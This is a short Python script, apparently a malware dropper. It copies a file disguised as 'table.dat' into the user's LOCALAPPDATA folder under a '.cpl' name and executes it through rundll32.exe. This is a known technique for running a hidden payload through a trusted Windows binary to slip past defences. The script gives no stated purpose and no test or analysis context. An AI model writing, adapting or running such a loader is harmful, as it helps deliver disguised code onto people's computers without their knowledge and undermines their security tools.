import os
import shutil
import subprocess

source = os.path.join(os.path.dirname(__file__), "table.dat")
target = os.path.join(os.environ["LOCALAPPDATA"], "sample.cpl")
shutil.copyfile(source, target)
subprocess.Popen(["rundll32.exe", target, "Start"])
